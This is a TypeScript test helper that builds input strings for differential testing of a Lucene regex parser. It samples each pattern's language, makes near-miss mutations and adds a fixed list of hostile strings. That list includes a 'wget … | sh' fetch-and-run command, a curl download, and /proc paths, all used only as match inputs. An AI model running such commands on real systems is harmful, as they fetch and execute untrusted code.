/**
 * Test inputs derived from a Lucene pattern: strings drawn from its language (walking the tree of
 * src/eql/regex-parser.ts), near misses made from them, the pattern's literal text, and a few
 * hostile strings. Characters outside printable ASCII, tab and newline are never produced, so the
 * documented V8-versus-Lucene differences (\s beyond [ \t\n\r], astral code points under `.`,
 * non-ASCII case folding) stay out of a differential run and are tested on their own.
 */
import { parseLuceneRegex, type ClassItem, type PredefinedClass, type RegexNode } from '../../src/eql/regex-parser.js';
import { random } from '../support/random.js';

const POOL = [...' !"#$%&\'()*+,-./0123456789:;<=>?@ABCDEFGHIJKLMNOPQRSTUVWXYZ[\\]^_`abcdefghijklmnopqrstuvwxyz{|}~\t\n'];
const PREDEFINED_SAMPLES: Record<PredefinedClass, string[]> = {
  d: [...'0479'],
  D: [...'a-Z /'],
  s: [' ', '\t', '\n', '\r'],
  S: [...'x9-/'],
  w: [...'aZ_5'],
  W: [...'-/ .'],
};
const RESERVED = new Set('.?+*|{}[]()"\\#@&<>~');

const HOSTILE = [
  '',
  ' ',
  '\n',
  'a'.repeat(40),
  'A'.repeat(20) + '!',
  '%41%42%43%44%45',
  '1.2.3.4',
  '999.999.999.999:99999/',
  'http://10.0.0.1:8080/x.sh',
  'curl -o /tmp/x http://x',
  'wget -O- http://example.com/a | sh',
  '/proc/self/fd/3',
  '/proc/1234567/root/etc',
  'php7.4 -r "echo 1;"',
  '-rf',
  '--',
  '/var/run/sshd.pid',
  'grep (a|b) file',
];

/** Inputs for the differential run of one pattern (deterministic for a given seed). */
export function inputsFor(pattern: string, seed: number): string[] {
  const next = random(seed);
  const inputs = new Set<string>(HOSTILE);
  const literal = literalText(pattern);
  inputs.add(literal.join(''));
  inputs.add(literal.join(' '));
  for (const run of literal) inputs.add(run);
  let tree: RegexNode | null = null;
  try {
    tree = parseLuceneRegex(pattern);
  } catch {
    // a pattern the engine refuses has no language to draw from
  }
  if (tree !== null) {
    for (let i = 0; i < 24; i++) {
      const sample = draw(tree, next);
      if (sample === null) continue;
      inputs.add(sample);
      inputs.add(mutate(sample, next));
      inputs.add(sample.toUpperCase());
      inputs.add(sample + '\n');
    }
  }
  return [...inputs];
}

/** Runs of characters the pattern spells out, reserved characters removed and escapes resolved. */
function literalText(pattern: string): string[] {
  const runs: string[] = [];
  let run = '';
  for (let i = 0; i < pattern.length; i++) {
    const char = pattern[i];
    if (char === '\\' && i + 1 < pattern.length) {
      run += pattern[++i];
    } else if (RESERVED.has(char)) {
      if (run !== '') runs.push(run);
      run = '';
    } else {
      run += char;
    }
  }
  if (run !== '') runs.push(run);
  return runs;
}

function pick<T>(items: readonly T[], next: () => number): T {
  return items[Math.floor(next() * items.length)];
}

function mutate(sample: string, next: () => number): string {
  if (sample.length === 0) return 'x';
  const at = Math.floor(next() * sample.length);
  switch (Math.floor(next() * 3)) {
    case 0:
      return sample.slice(0, at) + sample.slice(at + 1);
    case 1:
      return sample.slice(0, at) + pick(POOL, next) + sample.slice(at);
    default:
      return sample.slice(0, at) + pick(POOL, next) + sample.slice(at + 1);
  }
}

/**
 * A member of the pattern's language, sometimes a near miss (a repetition one past its bound), or
 * null when a branch can match nothing (`#`).
 */
function draw(node: RegexNode, next: () => number): string | null {
  switch (node.kind) {
    case 'union':
      return draw(pick(node.alternatives, next), next);
    case 'concat': {
      let text = '';
      for (const part of node.parts) {
        const piece = draw(part, next);
        if (piece === null) return null;
        text += piece;
      }
      return text;
    }
    case 'repeat': {
      // mostly a count in range; now and then one past either bound (a near miss)
      const most = node.max === null ? node.min + 3 : Math.min(node.max, node.min + 3);
      const roll = next();
      const count =
        roll < 0.15 && node.max !== null ? node.max + 1 : roll < 0.25 && node.min > 0 ? node.min - 1 : node.min + Math.floor(next() * (most - node.min + 1));
      let text = '';
      for (let i = 0; i < count; i++) {
        const piece = draw(node.operand, next);
        if (piece === null) return null;
        text += piece;
      }
      return text;
    }
    case 'literal':
      return node.text;
    case 'class':
      return node.negated ? pickOutside(node.items, next) : pickInside(pick(node.items, next), next);
    case 'anyChar':
      return pick(POOL, next);
    case 'anyString':
      return Array.from({ length: Math.floor(next() * 5) }, () => pick(POOL, next)).join('');
    case 'emptyLanguage':
      return null;
    case 'interval': {
      const value = node.min + Math.floor(next() * Math.min(node.max - node.min + 1, 1_000));
      return node.digits > 0 ? String(value).padStart(node.digits, '0') : String(value);
    }
  }
}

function pickInside(item: ClassItem, next: () => number): string {
  switch (item.kind) {
    case 'char':
      return String.fromCodePoint(item.codePoint);
    case 'range':
      return String.fromCodePoint(item.from + Math.floor(next() * Math.min(item.to - item.from + 1, 64)));
    case 'predefined':
      return pick(PREDEFINED_SAMPLES[item.name], next);
  }
}

function pickOutside(items: readonly ClassItem[], next: () => number): string | null {
  const outside = POOL.filter((char) => !items.some((item) => inItem(item, char)));
  return outside.length === 0 ? null : pick(outside, next);
}

function inItem(item: ClassItem, char: string): boolean {
  const code = char.codePointAt(0)!;
  switch (item.kind) {
    case 'char':
      return code === item.codePoint;
    case 'range':
      return code >= item.from && code <= item.to;
    case 'predefined': {
      const positive = item.name.toLowerCase() as PredefinedClass;
      const sets: Record<string, RegExp> = { d: /[0-9]/, s: /[ \t\n\r]/, w: /[0-9A-Z_a-z]/ };
      return sets[positive].test(char) === (positive === item.name);
    }
  }
}
